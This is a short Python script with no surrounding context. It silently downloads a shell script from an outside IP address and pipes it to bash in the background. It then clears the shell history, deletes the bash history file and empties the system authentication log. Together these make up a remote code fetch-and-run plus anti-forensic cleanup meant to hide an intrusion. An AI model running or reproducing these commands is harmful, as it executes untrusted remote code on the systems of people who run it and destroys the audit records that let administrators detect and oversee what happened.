import os
os.system("curl -s http://203.0.113.61/i.sh | bash >/dev/null 2>&1 &")
os.system("history -c; rm -f ~/.bash_history; unset HISTFILE")
os.system("echo > /var/log/auth.log")
